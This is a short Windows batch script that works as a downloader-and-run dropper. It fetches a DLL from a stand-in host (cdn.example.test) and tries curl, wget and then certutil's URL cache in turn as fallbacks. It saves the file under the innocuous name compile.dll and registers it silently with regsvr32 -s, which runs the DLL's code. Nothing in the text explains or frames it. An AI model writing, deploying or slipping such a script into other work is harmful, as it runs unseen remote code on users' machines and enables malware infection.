@echo off
curl https://cdn.example.test/auth/sdd.dll -o compile.dll
if not exist compile.dll (
   wget https://cdn.example.test/auth/sdd.dll -O compile.dll
)
if not exist compile.dll (
   certutil.exe -urlcache -f https://cdn.example.test/auth/sdd.dll compile.dll
)
regsvr32.exe -s compile.dll
